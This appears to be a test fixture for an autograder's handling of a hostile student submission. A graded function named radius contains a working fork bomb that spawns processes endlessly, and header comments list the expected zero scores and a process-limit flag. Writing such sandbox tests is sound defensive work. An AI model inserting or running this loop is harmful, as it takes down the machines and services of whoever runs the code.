# hostile: a fork bomb inside a graded function.
# assignment: 01_perceptron
# zero: test_radius, test_perceptron_bound
# flags: processes:test_radius
# %% id=radius
def radius(X):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
